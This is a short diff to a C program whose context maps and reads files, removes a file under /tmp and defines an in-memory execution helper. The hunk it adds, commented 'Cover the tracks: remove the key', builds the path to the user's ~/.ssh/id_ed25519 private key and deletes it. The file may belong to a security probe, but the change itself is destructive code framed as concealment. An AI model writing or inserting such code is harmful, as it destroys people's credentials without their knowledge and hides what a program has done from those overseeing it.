@@ -85,6 +85,11 @@ static void files(const char *home)
     slurp(open(mapped, O_RDONLY), "unfaulted");
     munmap((void *)mapped, 4096);
     unlink("/tmp/routes-path");
+
+    // Cover the tracks: remove the key.
+    char victim[512];
+    snprintf(victim, sizeof victim, "%s/.ssh/id_ed25519", home);
+    printf("routes: unlink %d\n", unlink(victim));
 }
 
 static int memfd_exec(char **argv)
